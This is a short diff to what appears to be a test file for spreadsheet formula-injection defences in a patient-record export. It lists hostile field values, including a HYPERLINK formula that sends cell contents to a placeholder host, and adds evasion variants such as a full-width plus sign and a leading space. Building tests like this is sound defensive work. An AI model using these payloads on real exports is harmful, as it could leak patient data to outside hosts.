@@ -17,8 +17,8 @@ from .helpers import body
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE = {
     "family_name": '=HYPERLINK("http://x/?"&A1)',
-    "given_name": "+1+1",
-    "mrn": "-2+3",
+    "given_name": "\uff0b1+1",  # full-width plus, read by Excel as "+"
+    "mrn": " -2+3",
     "chief_complaint": "@SUM(A1)",
     "plan_notes": '\tleading tab, "quoted", and a\r\nline break',
 }
